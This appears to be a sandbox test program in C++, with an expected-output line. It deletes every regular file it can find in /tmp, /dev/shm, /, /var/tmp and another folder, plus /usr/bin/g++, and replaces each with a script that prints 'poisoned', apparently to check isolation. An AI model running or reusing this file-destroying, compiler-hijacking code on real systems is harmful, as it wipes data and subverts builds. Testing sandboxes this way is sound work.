// Overwrites the compiled programs it can find, its own first, to have another one run in their place.
// expect: ok | wall_s=3 | both twice
#include <dirent.h>
#include <fcntl.h>
#include <initializer_list>
#include <stdio.h>
#include <string>
#include <sys/stat.h>
#include <unistd.h>

int main() {
    const char script[] = "#!/bin/sh\necho poisoned\n";
    for (const char *folder : {"/tmp", "/dev/shm", "/thinkery", "/", "/var/tmp", "/usr/bin"}) {
        DIR *entries = opendir(folder);
        while (dirent *entry = entries ? readdir(entries) : nullptr) {
            std::string path = std::string(folder) + "/" + entry->d_name;
            struct stat seen;
            if (folder == std::string("/usr/bin") && path != "/usr/bin/g++") continue;
            if (stat(path.c_str(), &seen) != 0 || !S_ISREG(seen.st_mode)) continue;
            unlink(path.c_str());
            int file = open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0755);
            if (file >= 0 && write(file, script, sizeof script - 1) > 0) close(file);
        }
    }
    puts("itself");
}
